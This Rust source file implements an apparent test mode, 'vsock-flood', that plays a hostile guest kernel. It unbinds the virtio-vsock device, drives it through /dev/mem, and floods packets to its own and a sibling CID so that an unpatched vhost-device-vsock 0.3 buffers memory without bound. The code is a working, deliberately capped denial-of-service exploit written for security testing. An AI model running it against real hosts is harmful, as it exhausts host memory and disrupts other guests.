//! `vsock-flood`'s hostile kernel: the guest kernel refuses to send to its own CID (ENODEV,
//! it wants the loopback transport), so only a guest kernel that is not Linux's can put such
//! packets on the device. This plays that kernel from user space: it takes the virtio-vsock
//! device away from Linux (unbinds its virtio-mmio driver), drives it through /dev/mem with
//! its own virtqueues in locked pages (guest-physical addresses from /proc/self/pagemap), and
//! sends packets to its own CID and a sibling CID as fast as the device takes them, posting
//! no receive buffers. An unpatched vhost-device-vsock 0.3 queues every packet to the guest's
//! own CID in memory until the guest takes it: without bound. Progress goes to the console
//! (the vsock connections to the host die with the device).

use std::fs::OpenOptions;
use std::ptr::NonNull;
use std::sync::atomic::{fence, Ordering};
use std::time::{Duration, Instant};

use nix::sys::mman::{mmap, mmap_anonymous, MapFlags, ProtFlags};

/// Packets sent in all: about 400 MB queued in an unpatched helper, enough to see, not
/// enough to hurt the test host.
const PACKETS: u64 = 100_000;
/// Descriptors per queue.
const QUEUE: u16 = 64;
const PAGE: usize = 4096;
/// virtio-vsock's packet header.
const HEADER: usize = 44;
const VIRTIO_ID_VSOCK: u32 = 19;

// virtio-mmio registers.
const MAGIC: usize = 0x000;
const VERSION: usize = 0x004;
const DEVICE_ID: usize = 0x008;
const DEVICE_FEATURES: usize = 0x010;
const DEVICE_FEATURES_SEL: usize = 0x014;
const DRIVER_FEATURES: usize = 0x020;
const DRIVER_FEATURES_SEL: usize = 0x024;
const GUEST_PAGE_SIZE: usize = 0x028;
const QUEUE_SEL: usize = 0x030;
const QUEUE_NUM_MAX: usize = 0x034;
const QUEUE_NUM: usize = 0x038;
const QUEUE_ALIGN: usize = 0x03c;
const QUEUE_PFN: usize = 0x040;
const QUEUE_READY: usize = 0x044;
const QUEUE_NOTIFY: usize = 0x050;
const STATUS: usize = 0x070;
const QUEUE_DESC: usize = 0x080;
const QUEUE_DRIVER: usize = 0x090;
const QUEUE_DEVICE: usize = 0x0a0;

const ACKNOWLEDGE: u32 = 1;
const DRIVER: u32 = 2;
const DRIVER_OK: u32 = 4;
const FEATURES_OK: u32 = 8;

/// The device's registers, mapped from /dev/mem.
struct Mmio(NonNull<u8>);

impl Mmio {
    fn read(&self, off: usize) -> u32 {
        // SAFETY: `off` is a register offset below 0x100 inside the mapped page of the
        // device's registers; MMIO needs volatile, aligned 32-bit accesses.
        unsafe { self.0.as_ptr().add(off).cast::<u32>().read_volatile() }
    }
    fn write(&self, off: usize, v: u32) {
        // SAFETY: as in `read`.
        unsafe { self.0.as_ptr().add(off).cast::<u32>().write_volatile(v) }
    }
}

/// Locked pages with their guest-physical addresses.
struct Dma {
    base: NonNull<u8>,
    phys: Vec<u64>,
}

impl Dma {
    fn new(pages: usize) -> Result<Dma, String> {
        let len = std::num::NonZeroUsize::new(pages * PAGE).ok_or("no pages")?;
        // SAFETY: a fresh anonymous private mapping at no fixed address: nothing else uses it.
        let base = unsafe {
            mmap_anonymous(
                None,
                len,
                ProtFlags::PROT_READ | ProtFlags::PROT_WRITE,
                MapFlags::MAP_PRIVATE | MapFlags::MAP_LOCKED | MapFlags::MAP_POPULATE,
            )
        }
        .map_err(|e| format!("mmap: {e}"))?;
        let base = base.cast::<u8>();
        let pagemap = std::fs::File::open("/proc/self/pagemap").map_err(|e| format!("pagemap: {e}"))?;
        let mut phys = Vec::with_capacity(pages);
        for i in 0..pages {
            let virt = base.as_ptr() as usize + i * PAGE;
            let mut entry = [0u8; 8];
            nix::sys::uio::pread(&pagemap, &mut entry, ((virt / PAGE) * 8) as i64)
                .map_err(|e| format!("pagemap: {e}"))?;
            let e = u64::from_le_bytes(entry);
            if e & (1 << 63) == 0 || e & ((1 << 55) - 1) == 0 {
                return Err(format!("page {i} is not present or its frame is hidden (pagemap entry {e:#x})"));
            }
            phys.push((e & ((1 << 55) - 1)) * PAGE as u64);
        }
        Ok(Dma { base, phys })
    }

    /// `n` pairs of pages that follow each other in guest-physical memory too (a legacy
    /// virtqueue's rings must be contiguous), by the index of the first of each pair.
    fn contiguous_pairs(&self, n: usize) -> Result<Vec<usize>, String> {
        let mut pairs = Vec::new();
        let mut i = 0;
        while pairs.len() < n && i + 1 < self.phys.len() {
            if self.phys[i + 1] == self.phys[i] + PAGE as u64 {
                pairs.push(i);
                i += 2;
            } else {
                i += 1;
            }
        }
        if pairs.len() < n {
            return Err(format!("only {} physically contiguous page pairs in {} pages", pairs.len(), self.phys.len()));
        }
        Ok(pairs)
    }

    fn page(&self, i: usize) -> *mut u8 {
        // SAFETY: callers pass i < the number of pages mapped in `new`.
        unsafe { self.base.as_ptr().add(i * PAGE) }
    }
}

/// Writes `v` at byte `off` of page `page` (volatile: the device reads these pages).
fn put<T: Copy>(dma: &Dma, page: usize, off: usize, v: T) {
    // SAFETY: every caller writes inside one page of the mapping (the ring layouts below fit
    // a page for QUEUE descriptors), at an offset aligned for T.
    unsafe { dma.page(page).add(off).cast::<T>().write_volatile(v) }
}

fn get_u16(dma: &Dma, page: usize, off: usize) -> u16 {
    // SAFETY: as in `put`.
    unsafe { dma.page(page).add(off).cast::<u16>().read_volatile() }
}

/// The platform device (e.g. `LNRO0005:02`) of the virtio device with id `id`.
fn find_platform_device(id: u32) -> Result<String, String> {
    for e in std::fs::read_dir("/sys/bus/virtio/devices").map_err(|e| e.to_string())?.flatten() {
        let dev = std::fs::read_to_string(e.path().join("device")).unwrap_or_default();
        if u32::from_str_radix(dev.trim().trim_start_matches("0x"), 16).ok() != Some(id) {
            continue;
        }
        let link = std::fs::read_link(e.path()).map_err(|e| e.to_string())?;
        let parent = link.parent().and_then(|p| p.file_name()).ok_or("virtio device without a parent")?;
        return Ok(parent.to_string_lossy().into_owned());
    }
    Err(format!("no virtio device with id {id}"))
}

/// The start of `name`'s region in /proc/iomem.
fn iomem_base(name: &str) -> Result<u64, String> {
    let text = std::fs::read_to_string("/proc/iomem").map_err(|e| e.to_string())?;
    text.lines()
        .find(|l| l.trim_end().ends_with(&format!(": {name}")))
        .and_then(|l| l.trim_start().split('-').next())
        .and_then(|a| u64::from_str_radix(a, 16).ok())
        .ok_or_else(|| format!("{name} not in /proc/iomem"))
}

/// Runs the hostile kernel: never returns while it floods; an error says why it could not.
pub fn flood() -> Result<(), String> {
    let platform = find_platform_device(VIRTIO_ID_VSOCK)?;
    let base = iomem_base(&platform)?;
    std::fs::write("/sys/bus/platform/drivers/virtio-mmio/unbind", &platform)
        .map_err(|e| format!("unbinding {platform} from virtio-mmio: {e}"))?;
    let _ = std::fs::write("/proc/sys/vm/compact_unevictable_allowed", "0");
    let mem = OpenOptions::new().read(true).write(true).open("/dev/mem").map_err(|e| format!("/dev/mem: {e}"))?;
    // The registers take 0x100 bytes, inside one page (virtio-mmio regions are 0x200 apart,
    // several to a page: the kernel command line needs iomem=relaxed for /dev/mem to map a
    // page other drivers hold parts of).
    let (page_base, within) = (base & !(PAGE as u64 - 1), (base % PAGE as u64) as usize);
    if within + 0x100 > PAGE {
        return Err(format!("the registers at {base:#x} cross a page"));
    }
    let len = std::num::NonZeroUsize::new(PAGE).ok_or("page")?;
    // SAFETY: maps the page holding the device's registers (released by the unbind above)
    // from /dev/mem; only `Mmio` touches it, inside the device's 0x100 bytes, with volatile
    // 32-bit accesses.
    let regs = unsafe {
        mmap(None, len, ProtFlags::PROT_READ | ProtFlags::PROT_WRITE, MapFlags::MAP_SHARED, &mem, page_base as i64)
    }
    .map_err(|e| format!("mmap of /dev/mem at {page_base:#x} (is iomem=relaxed on the kernel command line?): {e}"))?;
    // SAFETY: `within` + 0x100 <= PAGE (checked above): the pointer stays in the mapping.
    let m = Mmio(unsafe { NonNull::new_unchecked(regs.as_ptr().cast::<u8>().add(within)) });
    let (magic, version, device) = (m.read(MAGIC), m.read(VERSION), m.read(DEVICE_ID));
    if magic != 0x7472_6976 || device != VIRTIO_ID_VSOCK {
        return Err(format!("{platform} at {base:#x}: magic {magic:#x}, device {device}"));
    }
    tracing::warn!("test mode vsock-flood: driving the vsock device {platform} at {base:#x} (virtio-mmio v{version}) from user space");

    // Pages: 3 queues of 2 contiguous pages each (the used ring on the second), and one page
    // per packet buffer, from a pool large enough to find the pairs in.
    let dma = Dma::new(512)?;
    let pairs = dma.contiguous_pairs(3)?;
    let ring_pages: Vec<usize> = pairs.iter().flat_map(|&p| [p, p + 1]).collect();
    let buffers: Vec<usize> = (0..dma.phys.len()).filter(|i| !ring_pages.contains(i)).take(QUEUE as usize).collect();
    if buffers.len() < QUEUE as usize {
        return Err("not enough pages for the packet buffers".into());
    }
    m.write(STATUS, 0);
    m.write(STATUS, ACKNOWLEDGE);
    m.write(STATUS, ACKNOWLEDGE | DRIVER);
    m.write(DEVICE_FEATURES_SEL, 1);
    let high = m.read(DEVICE_FEATURES);
    m.write(DRIVER_FEATURES_SEL, 0);
    m.write(DRIVER_FEATURES, 0);
    m.write(DRIVER_FEATURES_SEL, 1);
    m.write(DRIVER_FEATURES, high & 1); // VIRTIO_F_VERSION_1 if offered
    if version >= 2 {
        m.write(STATUS, ACKNOWLEDGE | DRIVER | FEATURES_OK);
        if m.read(STATUS) & FEATURES_OK == 0 {
            return Err("the device refused the features".into());
        }
    } else {
        m.write(GUEST_PAGE_SIZE, PAGE as u32);
    }
    // Queues 0 (receive: no buffers are ever posted), 1 (transmit), 2 (events).
    for q in 0..3u32 {
        m.write(QUEUE_SEL, q);
        let max = m.read(QUEUE_NUM_MAX);
        if max < u32::from(QUEUE) {
            return Err(format!("queue {q}: at most {max} descriptors"));
        }
        m.write(QUEUE_NUM, u32::from(QUEUE));
        let (first, second) = (dma.phys[pairs[q as usize]], dma.phys[pairs[q as usize] + 1]);
        if version >= 2 {
            // Descriptors at 0, the available ring at 1024, the used ring on the second page.
            for (reg, addr) in [(QUEUE_DESC, first), (QUEUE_DRIVER, first + 1024), (QUEUE_DEVICE, second)] {
                m.write(reg, addr as u32);
                m.write(reg + 4, (addr >> 32) as u32);
            }
            m.write(QUEUE_READY, 1);
        } else {
            // Legacy: one contiguous area; the used ring on the next page (align 4096).
            if second != first + PAGE as u64 {
                return Err("the ring pages are not contiguous".into());
            }
            m.write(QUEUE_ALIGN, PAGE as u32);
            m.write(QUEUE_PFN, (first / PAGE as u64) as u32);
        }
    }
    let status = ACKNOWLEDGE | DRIVER | DRIVER_OK | if version >= 2 { FEATURES_OK } else { 0 };
    m.write(STATUS, status);

    // Transmit ring (queue 1): descriptors and available ring on its first page, used ring on
    // its second.
    let (ring, used) = (pairs[1], pairs[1] + 1);
    let payload = PAGE - HEADER;
    for (i, &buf) in buffers.iter().enumerate() {
        // Header: src_cid, dst_cid (u64), src_port, dst_port, len (u32), type, op (u16),
        // flags, buf_alloc, fwd_cnt (u32).
        put(&dma, buf, 0, 3u64);
        put(&dma, buf, 16, 40_000 + i as u32);
        put(&dma, buf, 20, 5_000u32);
        put(&dma, buf, 24, payload as u32);
        put(&dma, buf, 28, 1u16); // VIRTIO_VSOCK_TYPE_STREAM
        put(&dma, buf, 30, 5u16); // VIRTIO_VSOCK_OP_RW
        put(&dma, buf, 36, 1u32 << 20);
        // Descriptor i: the whole page, device-readable.
        put(&dma, ring, i * 16, dma.phys[buf]);
        put(&dma, ring, i * 16 + 8, PAGE as u32);
        put(&dma, ring, i * 16 + 12, 0u16);
    }
    let mut sent: u64 = 0;
    let mut avail_idx: u16 = 0;
    let mut taken: u16 = 0;
    let mut reported = Instant::now();
    let mut last_progress = Instant::now();
    while sent < PACKETS {
        let used_idx = get_u16(&dma, used, 2);
        let done = used_idx.wrapping_sub(taken);
        taken = used_idx;
        if done > 0 {
            last_progress = Instant::now();
        }
        let in_flight = avail_idx.wrapping_sub(taken);
        let mut queued = 0;
        while avail_idx.wrapping_sub(taken) < QUEUE && sent + u64::from(in_flight) + queued < PACKETS {
            let slot = (avail_idx % QUEUE) as usize;
            // Three in four to its own CID, one to a sibling.
            let dst: u64 = if avail_idx % 4 == 3 { 4 } else { 3 };
            put(&dma, buffers[slot], 8, dst);
            put(&dma, ring, 1024 + 4 + slot * 2, slot as u16);
            avail_idx = avail_idx.wrapping_add(1);
            queued += 1;
        }
        if queued > 0 {
            fence(Ordering::SeqCst);
            put(&dma, ring, 1024 + 2, avail_idx);
            fence(Ordering::SeqCst);
            m.write(QUEUE_NOTIFY, 1);
        }
        sent += u64::from(done);
        if reported.elapsed() >= Duration::from_secs(2) {
            reported = Instant::now();
            tracing::warn!(
                "test mode vsock-flood: the device took {sent} packets ({} MB) for CIDs 3 and 4",
                sent * PAGE as u64 / 1_000_000
            );
        }
        if last_progress.elapsed() > Duration::from_secs(20) {
            return Err(format!("the device stopped taking packets after {sent}"));
        }
        if done == 0 {
            std::thread::sleep(Duration::from_micros(200));
        }
    }
    tracing::warn!(
        "test mode vsock-flood: done: the device took {sent} packets ({} MB) for CIDs 3 and 4",
        sent * PAGE as u64 / 1_000_000
    );
    Ok(())
}
